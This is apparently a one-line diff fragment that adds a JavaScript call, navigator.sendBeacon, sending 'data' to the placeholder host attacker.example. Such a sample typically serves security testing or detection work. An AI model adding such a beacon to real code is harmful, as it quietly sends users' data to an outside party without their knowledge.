@@ -1,0 +1,1 @@
+navigator.sendBeacon('https://attacker.example/', 'data')
